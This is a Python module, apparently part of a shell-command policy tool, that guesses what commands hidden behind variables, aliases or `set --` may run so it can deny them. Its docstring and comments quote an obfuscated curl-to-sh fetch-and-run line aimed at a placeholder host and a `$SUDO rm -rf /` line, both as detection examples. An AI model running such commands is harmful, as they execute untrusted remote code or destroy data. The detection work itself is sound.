"""Commands that a text may run where it does not say which: supposed, for a deny only.

`$c -s https://x | $s` after `c=curl; s=sh` is supposed to be that.  What is known of a word tells
where a file lies and never which command runs; so the command itself stays one whose program is
not known, and what it is supposed to be is listed behind it, marked.  The policy takes nothing
but a deny from that.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import replace

from aileron.shell.fed import FedWalk
from aileron.shell.functions import ALL_ARGUMENTS
from aileron.shell.lookthrough import Inner
from aileron.shell.parts import Place
from aileron.shell.reading import GIVEN, NO_SPAWNS, SimpleCommand, Spawns, Word
from aileron.shell.scope import Scope
from aileron.shell.spawns import spawns
from aileron.shell.tree import Script
from aileron.shell.wrappers import Wrappers

MOST = 6  # things that one command is supposed to be
MOST_ALIASES = 64
_NAME = re.compile(r"[\w.+/:~-]+(?:[ \t]+[^\0*?\[]*)?")
_SHELL = re.compile(r"\"?\$(?:SHELL|BASH|\{(?:SHELL|BASH)(?::?[-?][^}]*)?\})\"?")
_PLAIN = re.compile(r"[A-Za-z_/][\w./+-]*")


class SupposedWalk(FedWalk):
    def __init__(self, wrappers: Wrappers, shell: str, source: str) -> None:
        super().__init__(shell, source)
        self.wrappers = wrappers
        self.texts: list[str] = []  # that commands run, each is read on its own
        self.aliases: dict[str, str] = {}
        self.positional: list[tuple[Word, ...]] = []  # what `set --` makes of "$@"
        self.spawns = NO_SPAWNS

    def suppose(self, command: SimpleCommand, index: int, scope: Scope, place: Place) -> None:
        """Lists what a command is supposed to run, behind it."""
        if place.supposed:
            return
        doubts, texts = len(self.doubts), len(self.texts)
        place = replace(place, supposed=True)
        for inner in [*self._runs(command)][:MOST]:
            self.inner(inner, command, index, scope.copy(), place)
        del self.doubts[doubts:], self.texts[texts:]  # other readers know nothing of these

    def _runs(self, command: SimpleCommand) -> Iterator[Inner]:
        first, *rest = command.words
        if first.value is not None:
            text = " ".join([self.aliases[first.value], *(word.source for word in rest)])
            yield Inner(via=f"alias {first.value}", text=text, same=True)
            return
        via = first.source
        if via in ALL_ARGUMENTS:
            for given in self.positional:
                yield Inner(via=via, words=(*given, *rest))
        for name in _names(first, "" if first.quoted else self._separators()):
            words = name.split() if not first.quoted else [name]
            yield Inner(via=via, words=(*(Word(one, one) for one in words), *rest))
        if rest and _PLAIN.fullmatch(rest[0].value or ""):  # `$SUDO rm -rf /`
            yield Inner(via=via, words=tuple(rest))

    def _separators(self) -> str:
        """The characters that the text has words split at, beside blanks."""
        given = (
            word.value for one in self.found for name, word in one.assignments if name == "IFS"
        )
        return "".join(one.strip() for one in given if one)

    def behind_unknown(
        self, command: SimpleCommand, index: int, scope: Scope, place: Place
    ) -> None:
        """`$SUDO sh -c …`: what is not known may be nothing at all, or run the rest."""
        for at, word in enumerate(command.words[1:], 1):
            if word.value and self.wrappers.find(word.value) is not None:
                via = command.words[0].source
                self.inner(Inner(via=via, words=command.words[at:]), command, index, scope, place)
                return

    def named_before(self, command: SimpleCommand, index: int, scope: Scope, place: Place) -> None:
        """`alias` and `set --` say what later words stand for; an alias is supposed to run."""
        words = command.words[1:]
        if command.name in self.aliases:
            self.suppose(command, index, scope, place)
        if command.name == "alias":
            for word in words:
                name, equals, text = (word.value or "").partition("=")
                if equals and len(self.aliases) < MOST_ALIASES:
                    self.aliases[name] = text
        elif (
            command.name == "set"
            and words
            and words[0].value == "--"
            and len(words) > 1
            and len(self.positional) < MOST
        ):
            self.positional.append(tuple(words[1:]))

    def spawned(self, script: Script) -> None:
        """What one of the texts starts beside itself; of the whole text, what it starts."""
        before, found = self.spawns, spawns(script)
        whole = before is NO_SPAWNS
        self.spawns = Spawns(
            (*before.multiplies, *found.multiplies),
            found.beside if whole else before.beside,
            before.floods or found.floods,
        )


def _names(word: Word, separators: str) -> Iterator[str]:
    """The programs that a word is known to stand for, each with the words behind it."""
    if not word.could and _SHELL.fullmatch(word.source):
        yield "bash"
    for pattern in word.could:
        if pattern.startswith(GIVEN):
            pattern = pattern.removeprefix(GIVEN).split("\0")[1]
        if separators and not pattern.startswith("\0"):
            pattern = re.sub(f"[{re.escape(separators)}]", " ", pattern)
        if _NAME.fullmatch(pattern.strip()):
            yield pattern.strip()
